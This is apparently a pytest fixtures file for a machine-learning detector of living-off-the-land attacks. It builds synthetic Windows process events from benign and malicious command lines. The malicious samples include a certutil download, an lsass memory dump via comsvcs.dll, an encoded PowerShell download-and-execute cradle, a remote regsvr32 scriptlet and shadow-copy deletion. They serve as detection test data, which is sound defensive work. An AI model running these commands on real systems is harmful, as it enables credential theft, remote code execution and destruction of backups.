"""Fixtures: synthetic process events, a hand-made knowledge base, a small fitted detector, the shipped model."""

from __future__ import annotations

import base64
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from nightjar.detectors.lotl import LotlDetector
from nightjar.detectors.lotl.attack import Knowledge, Pattern

SHIPPED = Path(__file__).resolve().parents[3] / "src" / "nightjar" / "models" / "lotl"
SYS = "C:\\Windows\\System32\\"
BENIGN = [
    ("services.exe", "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    ("svchost.exe", "taskhostw.exe", "taskhostw.exe Install $(Arg0)"),
    ("svchost.exe", "wmiprvse.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"),
    ("services.exe", "sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe"),
    ("svchost.exe", "backgroundtaskhost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:CortanaUI.AppX"),
    ("cmd.exe", "ipconfig.exe", "ipconfig /all"),
    ("cmd.exe", "net.exe", "net use"),
]
MALICIOUS = [
    ("cmd.exe", "certutil.exe", "certutil -urlcache -split -f http://10.1.2.3/a.exe C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe"),
    ("cmd.exe", "rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll MiniDump 624 C:\\Temp\\lsass.dmp full"),
    ("winword.exe", "powershell.exe", "powershell -nop -w hidden -enc " + base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16-le")).decode()),
    ("cmd.exe", "regsvr32.exe", "regsvr32 /s /n /u /i:http://10.0.0.5/file.sct scrobj.dll"),
    ("cmd.exe", "vssadmin.exe", "vssadmin delete shadows /all /quiet"),
]


def knowledge() -> Knowledge:
    """A tiny knowledge base, so unit tests need no shared data."""
    return Knowledge(
        patterns={"certutil.exe": [Pattern(("-urlcache", "-f"), "Download", "T1105")],
                  "regsvr32.exe": [Pattern(("/i",), "AWL Bypass", "T1218.010")],
                  "rundll32.exe": [], "powershell.exe": [], "cmd.exe": []},
        keywords=["dump", "downloadstring", "shadowcopy", "delete", "bypass"],
        locations={"svchost.exe": ("c:\\windows\\system32\\", "c:\\windows\\syswow64\\")},
    )


def events(rows: list[tuple[str, str, str]], host: str = "WS1", start: int = 0) -> pd.DataFrame:
    """Process events for (parent, child, command line) triples."""
    return pd.DataFrame({
        "@timestamp": pd.date_range("2026-01-01", periods=len(rows), freq="s", tz="UTC"),
        "host.name": host, "user.name": "CORP\\bob",
        "process.entity_id": [f"{host}-{start + i}" for i in range(len(rows))],
        "process.pid": np.arange(start, start + len(rows)) + 1000,
        "process.name": [r[1] for r in rows], "process.executable": [SYS + r[1] for r in rows],
        "process.command_line": [r[2] for r in rows], "process.parent.name": [r[0] for r in rows],
        "process.parent.executable": [SYS + r[0] for r in rows],
        "process.parent.entity_id": [f"{host}-p{start + i}" for i in range(len(rows))],
        "winlog.event_data.IntegrityLevel": "High",
    })


def training_set(n: int = 30, seed: int = 0) -> tuple[pd.DataFrame, np.ndarray, np.ndarray]:
    """`n` copies of each benign and malicious row with varied numbers; groups by template."""
    rng = np.random.default_rng(seed)
    rows, y, groups = [], [], []
    for label, table in ((False, BENIGN), (True, MALICIOUS)):
        for k, (p, c, cmd) in enumerate(table):
            for j in range(n):
                rows.append((p, c, cmd.replace("624", str(rng.integers(100, 9000)))))
                y.append(label)
                groups.append(f"{label}-{k}-{j % 4}")
    return events(rows), np.asarray(y), np.asarray(groups)


@pytest.fixture(scope="session")
def small_detector() -> LotlDetector:
    ev, y, groups = training_set()
    return LotlDetector(n_trees=40, rarity_min_history=10, seed=0).fit(ev, y, groups=groups, knowledge=knowledge())


@pytest.fixture(scope="session")
def shipped() -> LotlDetector:
    return LotlDetector.load(SHIPPED)
